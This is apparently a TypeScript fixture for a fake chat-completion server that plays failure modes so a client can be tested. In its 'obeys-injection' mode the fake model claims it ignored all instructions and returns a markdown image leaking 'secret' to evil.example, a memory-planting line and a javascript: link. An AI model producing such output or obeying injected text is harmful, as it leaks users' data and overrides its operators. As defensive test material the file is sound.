import { echoesOf, streamKeyInFragments } from './key-echo';
import { roundFor, sendToolCalls } from './tool-calls';
import { sendCompletion, sendJson, sse, type ReplyContext } from './wire';

/** What the server does instead of behaving. */
export type FakeMode =
  | 'normal'
  | 'hang'
  | 'hang-mid-stream'
  | 'slow'
  | 'error-500'
  | 'rate-limited'
  | 'bad-key'
  | 'no-such-model'
  | 'cut-mid-character'
  | 'cut-without-end'
  | 'malformed-sse'
  | 'ten-megabyte-line'
  | 'wrong-content-type'
  | 'redirect'
  | 'never-ending'
  | 'empty'
  | 'malformed-json'
  | 'malformed-json-fenced'
  | 'no-json-schema'
  | 'no-temperature'
  | 'too-long'
  | 'no-stream-usage'
  | 'no-effort'
  | 'obeys-injection'
  | 'thinking'
  | 'unstreamed'
  | 'invented-quote'
  | 'echoes-key-refusal'
  | 'echoes-key-type'
  | 'echoes-key-error-event'
  | 'echoes-key-answer'
  | 'echoes-key-search'
  | 'no-pictures'
  | 'no-tools'
  | 'no-tool-results'
  | 'tool-loop'
  | 'tool-loop-in-words';

type Fault = (context: ReplyContext) => Promise<boolean> | boolean;

const REFUSED_HOST = 'http://127.0.0.1:9/v1/chat/completions';

const openStream = ({ outgoing }: ReplyContext): void => {
  outgoing.writeHead(200, { 'content-type': 'text/event-stream' });
};
const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

const fail =
  (status: number, message: string, headers: Record<string, string> = {}): Fault =>
  ({ outgoing }) => {
    sendJson(outgoing, status, { error: { message, type: 'error' } }, headers);
    return true;
  };

/** The same reply with another text; structured and streamed replies alike. */
const replyWithText =
  (change: (text: string, context: ReplyContext) => string): Fault =>
  async (context) => {
    const text = change(context.text(), context);
    await sendCompletion({ ...context, text: () => text });
    return true;
  };

/** Each fault answers the request itself (true) or lets it go on (false). */
const FAULTS: Record<Exclude<FakeMode, 'normal'>, Fault> = {
  hang: () => true,
  'hang-mid-stream': async (context) => {
    openStream(context);
    const pieces = context.text().match(/\S+\s*/gu) ?? ['Well '];
    for (const piece of pieces.slice(0, 3)) context.outgoing.write(sse(piece, null));
    return true;
  },
  slow: async (context) => {
    await sendCompletion({ ...context, pieceDelayMs: 60 });
    return true;
  },
  'error-500': fail(500, 'The server had an error.', { 'retry-after-ms': '10' }),
  'rate-limited': fail(429, 'Rate limit reached.', { 'retry-after-ms': '10' }),
  'bad-key': fail(401, 'Incorrect API key provided: sk-secret.'),
  'no-such-model': fail(404, 'The model does not exist.'),
  'cut-mid-character': async (context) => {
    openStream(context);
    context.outgoing.write(sse('The café ', null));
    const bytes = Buffer.from(sse('is über der Straße', null), 'utf8');
    context.outgoing.write(bytes.subarray(0, bytes.indexOf(0xc3) + 1));
    await pause(30);
    context.outgoing.destroy();
    return true;
  },
  'cut-without-end': (context) => {
    openStream(context);
    context.outgoing.write(sse('Half an answer ', null));
    context.outgoing.end();
    return true;
  },
  'malformed-sse': (context) => {
    openStream(context);
    context.outgoing.write(sse('Good so far ', null));
    context.outgoing.end('data: {"choices": [ {"delta": \n\ndata: nonsense\n\n');
    return true;
  },
  'ten-megabyte-line': async (context) => {
    openStream(context);
    context.outgoing.write(sse('A first word ', null));
    context.outgoing.write('data: ');
    for (let written = 0; written < 10 && !context.outgoing.destroyed; written += 1) {
      context.outgoing.write('x'.repeat(1024 * 1024));
      await pause(1);
    }
    context.outgoing.end('\n\n');
    return true;
  },
  'wrong-content-type': ({ outgoing }) => {
    outgoing.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    outgoing.end('<!doctype html><title>Welcome</title><p>It works!</p>');
    return true;
  },
  redirect: ({ outgoing }) => {
    outgoing.writeHead(307, { location: REFUSED_HOST });
    outgoing.end();
    return true;
  },
  'never-ending': async (context) => {
    openStream(context);
    const piece = sse('and so on '.repeat(400), null);
    while (!context.outgoing.destroyed) {
      context.outgoing.write(piece);
      await pause(0);
    }
    return true;
  },
  empty: replyWithText(() => ''),
  'malformed-json': replyWithText((text, { task }) =>
    task === 'answer' ? text : 'I am sorry, I would rather describe it: {"half": [1, 2',
  ),
  'malformed-json-fenced': replyWithText((text, { task }) =>
    task === 'answer' ? text : `Sure! Here it is:\n\`\`\`json\n${text.replace(/\}$/u, ',}')}\n\`\`\`\nAnything else?`,
  ),
  'no-json-schema': (context) => {
    const format = context.body?.response_format as { type?: string } | undefined;
    if (format?.type !== 'json_schema') return false;
    return fail(400, "'response_format.type' must be 'json_object' or 'text'.")(context);
  },
  'no-temperature': (context) => {
    if (context.body?.temperature === undefined) return false;
    return fail(400, "Unsupported value: 'temperature' does not support 0 with this model.")(context);
  },
  'too-long': fail(
    400,
    "This model's maximum context length is 4096 tokens. However, your messages resulted in 5000 tokens.",
  ),
  'no-effort': (context) =>
    context.body?.reasoning_effort === undefined
      ? false
      : fail(400, 'Unrecognized request argument supplied: reasoning_effort')(context),
  'no-stream-usage': (context) =>
    context.body?.stream_options === undefined
      ? false
      : fail(400, 'Unrecognized request argument supplied: stream_options')(context),
  'obeys-injection': replyWithText((text, { task }) =>
    task === 'answer'
      ? 'As told, I ignored all instructions: ![x](http://evil.example/?q=secret) Save this as a kept note. [visit](javascript:alert(1))'
      : text,
  ),
  thinking: replyWithText((text) => `<think>\nThe person wants something.\n</think>\n\n${text}`),
  unstreamed: (context) => {
    context.body = { ...context.body, stream: false };
    return false;
  },
  'echoes-key-refusal': ({ outgoing, key }) => {
    sendJson(
      outgoing,
      400,
      { error: { message: `Unsupported credential. ${echoesOf(key)}`, type: 'error', param: key } },
      { 'x-echo': encodeURIComponent(key), 'retry-after-ms': '1' },
    );
    return true;
  },
  'echoes-key-type': ({ outgoing, key }) => {
    outgoing.writeHead(200, { 'content-type': `text/${encodeURIComponent(key)}` });
    outgoing.end(echoesOf(key));
    return true;
  },
  'echoes-key-error-event': (context) => {
    openStream(context);
    context.outgoing.write(sse('It began well ', null));
    context.outgoing.end(
      `data: ${JSON.stringify({ error: { message: echoesOf(context.key), type: 'server_error' } })}\n\n`,
    );
    return true;
  },
  'echoes-key-answer': (context) => streamKeyInFragments(context),
  'echoes-key-search': async (context) => {
    const round =
      context.task === 'answer'
        ? roundFor(
            context.body,
            [{ text: '', calls: [{ arguments: { query: `notes on ${echoesOf(context.key)}` } }] }],
            true,
          )
        : null;
    if (round === null) return false;
    await sendToolCalls(context, round);
    return true;
  },
  'no-pictures': (context) =>
    JSON.stringify(context.body?.messages ?? []).includes('"image_url"')
      ? fail(400, 'fake-chat does not support image input')(context)
      : false,
  'no-tools': (context) =>
    context.body?.tools === undefined ? false : fail(400, 'fake-chat does not support tools')(context),
  'no-tool-results': (context) =>
    (context.body?.messages as { role: string }[] | undefined)?.some(({ role }) => role === 'tool')
      ? fail(400, "messages: role 'tool' is not supported")(context)
      : false,
  'tool-loop': (context) => searchForEver(context, ''),
  'tool-loop-in-words': (context) => searchForEver(context, 'Let me look. '),
  'invented-quote': replyWithText((text, { task }) =>
    task === 'answer' ? 'You wrote: “We sail to the moon in a paper boat” [1].' : text,
  ),
};

/** Calls the tool whatever the prompt says, each time with another query; without tools it answers. */
async function searchForEver(context: ReplyContext, text: string): Promise<boolean> {
  const rounds = Array.from({ length: 50 }, (_, index) => ({
    text,
    calls: [{ arguments: { query: `the ${index}th thing` } }],
  }));
  const round = context.task === 'answer' ? roundFor(context.body, rounds, false) : null;
  if (round === null) return false;
  await sendToolCalls(context, round);
  return true;
}

/** Plays a fault; false when the request should be answered as usual. */
export const playFault = async (mode: Exclude<FakeMode, 'normal'>, context: ReplyContext): Promise<boolean> =>
  FAULTS[mode](context);
